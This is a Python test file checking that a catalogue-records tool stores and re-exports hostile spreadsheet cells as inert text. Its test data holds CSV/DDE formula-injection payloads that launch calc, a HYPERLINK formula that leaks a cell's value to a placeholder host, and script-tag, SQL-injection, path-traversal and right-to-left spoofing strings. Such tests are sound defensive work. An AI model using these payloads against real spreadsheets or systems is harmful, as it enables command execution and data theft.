"""Cells that mean harm, or that few programs take well, pass through unharmed and as text."""

from pathlib import Path

import openpyxl
import pytest
from flow_steps import (
    BUREAU,
    BUREAU_CODE,
    REFUSED,
    RESOURCE,
    TITLES,
    WANTING,
    Office,
    ask,
    cdo,
    new_office,
    sheet,
    table,
    titled,
)
from openpyxl.utils.escape import unescape

FIRST = TITLES[0]
HOSTILE = {
    "a formula": "=1+1",
    "a command": "=cmd|'/C calc'!A0",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("http://example.invalid/?"&A1,"点这里")',
    "quote": "'=1+1",
    "fullwidth": "＝1＋1",
    "long": "甲" * 32767,
    "emoji": "学生👨‍👩‍👧信息🏫",
    "rare": "𠮷田𬭎𫖯",
    "right to left": "abc\u202egnp.exe\u202c مدرسة",
    "no width": "学\u200b籍\ufeff信\u2060息",
    "markup": "<b>&amp;</b><script>alert(1)</script>]]>",
    "escape of xlsx": "_x0041_与_x000D_",
    "sql": "'); DROP TABLE record; --",
    "path": "../../etc/passwd",
    "a format": "{0} {title} %s %n",
    "an escape of a terminal": "\x1b[2J\x1b]0;x\x07",
    "control characters": "甲\x01乙\x0b丙\x1f丁\x7f戊\x85己",
    "lines": "第一行\r\n第二行\r第三行\n第四行",
    "not a character": "甲\ufffe乙\uffff",
    "combining": "e\u0301e\u0301 が",
    "number": "000123456789012345678901234567890",
    "date": "1/2",
    "truth": "TRUE",
    "error": "#REF!",
}
CHANGED = {"an escape of a terminal", "control characters", "lines", "not a character", "combining"}
KEPT = set(HOSTILE) - CHANGED
"""Those that are kept to the letter; of the others line ends and forms of a character are evened
out, and what no XML can hold is lost where a sheet made by another program brings it."""


@pytest.fixture
def office(tmp_path: Path) -> Office:
    """An empty workspace."""
    return new_office(tmp_path)


def written(path: Path) -> dict[str, openpyxl.cell.Cell]:
    """Title -> the cell with the remark, in an exported workbook."""
    page = openpyxl.load_workbook(path).worksheets[0]
    for row in page.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n", "inlineStr"), cell.coordinate
            assert cell.data_type != "n" or cell.value is None, cell.coordinate
    heads = {}
    for row in page.iter_rows(max_row=3):
        heads |= {str(cell.value).strip("*△ "): cell.column for cell in row if cell.value}
    return {
        unescape(page.cell(line, heads["信息资源名称"]).value): page.cell(line, heads["备注"])
        for line in range(4, page.max_row + 1)
    }


def remarks(office: Office) -> dict[str, str]:
    """Title -> the remark of each record, as it is kept."""
    return {
        title: office.ask("show", record["id"])["values"].get("remark", "")
        for title, record in office.listed().items()
    }


def test_hostile_cells_go_round(office):
    rows = [{"信息资源名称": name, "备注": text} for name, text in HOSTILE.items()]
    office.ask("import", sheet(office.folder / "a.xlsx", *rows, items=["学校"]), exits=None)
    kept = remarks(office)
    assert {name: kept[name] for name in KEPT} == {name: HOSTILE[name] for name in KEPT}
    assert "甲" in kept["control characters"]
    assert "戊" in kept["control characters"]

    copy, before = office.folder / "b.xlsx", office.told()
    office.ask("export-xlsx", "-o", copy)
    for cell in written(copy).values():
        assert cell.data_type in ("s", "inlineStr")
    again = office.ask("import", copy, exits=None)
    assert (again["new"], again["changed"], again["unchanged"]) == (0, 0, len(HOSTILE))
    assert office.told() == before
    assert cdo("check", office.path, exits=None).out
    assert office.is_whole()


def test_hostile_names_go_round(office):
    told_apart = enumerate(sorted(KEPT - {"long"}))  # punctuation alone makes no other name
    names = {name: f"{HOSTILE[name]}甲{number}" for number, name in told_apart}
    brought = sheet(office.folder / "a.xlsx", *titled(*names.values()), items=["=1+1", "+甲"])
    office.ask("import", brought, exits=None)
    records = office.listed()
    assert set(records) == set(names.values())
    for title, record in records.items():
        assert cdo("list", office.path, "--query", title).err == ""
        assert cdo("show", office.path, record["id"]).err == ""
    copy = office.folder / "b.xlsx"
    office.ask("export-xlsx", "-o", copy)
    assert set(written(copy)) == set(names.values())
    assert office.ask("import", copy, exits=None)["unchanged"] == len(names)
    annotated = office.folder / "c.xlsx"
    office.ask("import", brought, "--rehearse", "--annotate", annotated, exits=None)
    for page in openpyxl.load_workbook(annotated).worksheets:
        for row in page.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_hostile_values_are_set_from_the_command_line(office):
    typed = {name: text for name, text in HOSTILE.items() if name != "not a character"}
    office.bring(*titled(*typed))
    for name, record in office.listed().items():
        office.ask("set", record["id"], f"备注={typed[name]}")
    kept = remarks(office)
    assert {name: kept[name] for name in KEPT} == {name: HOSTILE[name] for name in KEPT}
    copy = office.folder / "b.xlsx"
    office.ask("export-xlsx", "-o", copy)
    assert office.ask("import", copy, exits=None)["unchanged"] == len(typed)
    assert office.is_whole()


def test_what_is_too_long_for_a_cell_is_told_and_nothing_is_written(office):
    office.bring(*titled(FIRST))
    record = office.listed()[FIRST]["id"]
    office.ask("set", record, "备注=" + "甲" * 32768)
    copy = office.folder / "b.xlsx"
    assert office.refuses("export-xlsx", "-o", copy) == "CDO-W501"
    assert not copy.exists()
    office.ask("set", record, "备注=" + "😀" * 16383)  # counted as the other programs count
    office.ask("export-xlsx", "-o", copy)
    assert office.ask("import", copy, exits=None)["unchanged"] == 1


@pytest.mark.timeout(60)
@pytest.mark.parametrize("part", ["0", "v1", "甲乙", " 甲", "(", "（1", "1.", "\n1", "\x01"])
def test_very_long_cells_do_not_hold_up_the_work(office, part):
    text = (part * 32767)[:32766] + "甲"
    row = dict.fromkeys([*RESOURCE, *("信息项名称", "数据类型", "数据长度")], text)
    office.ask("import", table(office.folder / "a.xlsx", [row]), exits=WANTING)
    assert office.ask("list")["count"] == 1
    office.ask("check", exits=WANTING)


@pytest.mark.parametrize(
    "content",
    [b"\xed\xb2\x80", b"\xff\xfe", b"\x80\x81", b"\xf5\x90\x80\x80", b"\x00\x00", b"\xc0\xaf"],
)
def test_bytes_that_are_no_text(office, content):
    path = office.folder / "a.csv"
    head = "信息资源名称,信息资源提供方,信息项名称,备注\n".encode()
    path.write_bytes(head + f"{FIRST},{BUREAU},姓名,".encode() + content + b"\n")
    said = office.ask("import", path, exits=None)
    if "error" in said:
        assert said["error"]["code"] == "CDO-W109"
        assert office.listed() == {}
    else:
        assert list(office.listed()) == [FIRST]
    assert office.is_whole()


def test_hostile_records_travel_in_a_package(office, everybody):
    rows = titled(*(f"信息{number}" for number in range(len(HOSTILE))))
    for row, text in zip(rows, HOSTILE.values(), strict=True):
        row["备注"] = text[:900]
    office.bring(*rows, exits=None)
    office.ask("mend")
    office.ask("submit", "--all", "--by", "王晓燕", exits=None)
    office.ask("approve", "--all", "--by", "李文涛", exits=None)
    done = office.export(everybody.key("李文涛"), "a.cdopkg", exits=None)
    assert done["records"] > len(HOSTILE) // 2
    trust = ("--trust", everybody.bundle, "--roots", everybody.roots, "--deep")
    assert ask("verify", done["package"], *trust)["verdict"] == "valid"


@pytest.mark.parametrize("name", ["a formula", "right to left", "emoji", "markup", "a format"])
def test_hostile_words_of_people_and_places(office, name):
    text = HOSTILE[name]
    office.bring(*titled(FIRST))
    record = office.listed()[FIRST]["id"]
    office.ask("submit", record, "--by", text, "--note", text)
    said = office.ask("history", record)["revisions"][0]
    assert (said["who"], said["why"]) == (text, text)
    for error in (
        office.ask("set", record, f"{text}=1", exits=REFUSED),
        office.ask("show", text, exits=REFUSED),
        office.ask("list", "--kind", text, exits=REFUSED),
        office.ask("list", "--state", text, exits=REFUSED),
        ask("list", office.folder / text.replace("/", "_"), exits=REFUSED),
        ask("list", office.path, f"--{text}", exits=REFUSED),
        ask(text, exits=REFUSED),
    ):
        assert error["error"]["code"].startswith("CDO-")
    key = office.folder / "k.cdokey"
    holder = ("--name", text, "--role", "clerk", "--org", text, "--org-code", BUREAU_CODE)
    ask("key", "new", "-o", key, *holder, exits=None)
